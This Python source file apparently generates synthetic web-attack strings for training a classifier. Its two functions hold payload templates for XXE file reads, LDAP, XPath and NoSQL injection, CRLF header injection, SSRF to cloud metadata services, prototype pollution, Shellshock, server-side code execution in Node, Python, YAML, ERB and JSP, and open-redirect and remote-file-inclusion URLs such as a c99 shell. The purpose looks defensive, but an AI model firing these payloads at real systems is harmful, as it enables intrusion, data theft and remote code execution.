"""XML, LDAP, NoSQL, headers, addresses, and what else has a name."""

from __future__ import annotations

from classifiers.corpus.web_attack_tables import COMMANDS, FILES_UNIX, URLS
from classifiers.corpus.web_draw import Draw, word


def other(rng: Draw) -> str:
    w, host, n = word(rng), rng.choice(URLS).replace("W", word(rng)), rng.randint(1, 99)
    file = rng.choice(FILES_UNIX)
    return rng.choice(
        (f"<?xml version=\"1.0\"?><!DOCTYPE {w} [<!ENTITY {w} SYSTEM \"file://{file}\">]><{w}>&{w};</{w}>", f"<!DOCTYPE {w} SYSTEM \"{host}\">", f"<!ENTITY % {w} SYSTEM \"{host}\"> %{w};",
         f"<xi:include href=\"{file}\" parse=\"text\"/>", "*)(uid=*))(|(uid=*", f"{w})(|(password=*)", "*)(objectClass=*", "admin)(&)", "' or '1'='1' or ''='", f"'] | //user/*[contains(*,'{w}",
         "{\"$ne\": null}", "{\"$gt\": \"\"}", f"{{\"{w}\": {{\"$regex\": \".*\"}}}}", f"';return true;var {w}='", f"{{\"$where\": \"sleep({n}00)\"}}", f"[$ne]={w}", "'; return '' == '", "true, $where: '1 == 1'",
         f"{w}%0d%0aSet-Cookie:{w}={n}", f"{w}\r\nLocation: {host}", f"%0d%0a%0d%0a<script>alert({n})</script>", f"{w}\r\nBcc: {w}@example.com", f"%E5%98%8A%E5%98%8DSet-Cookie:{w}",
         f"http://169.254.169.254/latest/meta-data/{w}", "http://metadata.google.internal/computeMetadata/v1/", f"gopher://127.0.0.1:{n}11/_{w}", f"dict://localhost:11211/{w}", f"http://127.0.0.1:{n}22/{w}", f"http://[::1]:{n}/", f"http://0x7f000001/{w}", "http://2130706433/", f"file://{file}", f"jar:{host}!/",
         f"__proto__[{w}]={w}", f"constructor.prototype.{w}={n}", f"{{\"__proto__\": {{\"{w}\": true}}}}", f"<!--#exec cmd=\"{rng.choice(COMMANDS)}\"-->", f"<!--#include virtual=\"{file}\"-->", f"=cmd|'/c {w}'!A1", f"@SUM(1+1)*cmd|' /C {w}'!A0",
         f"<esi:include src={host} />", "{__schema{types{name,fields{name}}}}", f"//{w}.example/%2f..", f"/\\{w}.example", f"https:{w}.example@{w}.example", f"//{w}%E3%80%82example", f"http:/\\/\\{w}.example",
         f"() {{ :;}}; {rng.choice(COMMANDS)}", f"require('child_process').exec('{rng.choice(COMMANDS)}')", f"process.mainModule.require('fs').readFileSync('{file}')", f"__import__('os').system('{rng.choice(COMMANDS)}')", f"_$$ND_FUNC$$_function(){{require('child_process').exec('{w}')}}()", f"!!python/object/apply:os.system ['{w}']", f"<%= system('{rng.choice(COMMANDS)}') %>", f"<%@ page import=\"java.io.*\" %><% Runtime.getRuntime().exec({w}) %>", f"%n%n%s%s%x{w}", f"<xsl:value-of select=\"document('{file}')\"/>")
    )  # fmt: skip


def remote(rng: Draw) -> str:
    """Addresses of somebody else where the application expects a page of its own: redirection, inclusion, requests from inside."""
    w, host = (
        word(rng),
        rng.choice(
            (
                f"{word(rng)}.example",
                f"{rng.randint(1, 250)}.{rng.randint(1, 250)}.{rng.randint(1, 250)}.{rng.randint(1, 250)}",
                f"0x{rng.randint(1, 2**32 - 1):x}",
                str(rng.randint(2**24, 2**32 - 1)),
                f"[::ffff:{rng.randint(1, 250)}.1.2.3]",
                f"0{rng.randint(1, 377)}.0{rng.randint(1, 377)}.1.1",
            )
        ),
    )
    good = rng.choice((f"www.{w}.com", f"{w}.org", f"{w}"))
    return rng.choice(
        (f"//{host}/%2f..", f"///{host}", f"////{host}//", f"https:///{host}/%2e%2e", f"/\\/{host}", f"\\/\\/{host}/", f"/%09/{host}", f"//%5c{host}", f"http:{host}", f"https:/{host}/", f"//{good}@{host}/", f"http://{good}@{host}/%2f%2e%2e", f"http://{host}#@{good}/", f"http://{host}\\@{good}",
         f"/%5c%5c{host}/%2f..", f"/.{host}", f"//;@{host}", f"<>//{host}", f"//{host}%00.{good}", f"http://{good}.{host}", f"https://{good}%0d%0a.{host}", f"http://{host}/{w}.txt?", f"http://{host}/{w}.txt%00", f"http://{host}/shell.php?cmd=id", f"ftp://{host}/{w}.txt", f"{w}.php?page=http://{host}/{w}.txt?", f"/{w}/{w}.inc.php?path=http://{host}/c99.txt?",
         f"data:text/html;base64,{w}", f"http://{host}:22/{w}", f"/〱{host}", f"%01https://{host}", f"/%68%74%74%70%3a%2f%2f{host}", f"http://{host}/?{good}/", f"///{good}@{host}/%2f..", f"//{host}/%2f%2e%2e", f"https://%09/{host}")
    )  # fmt: skip
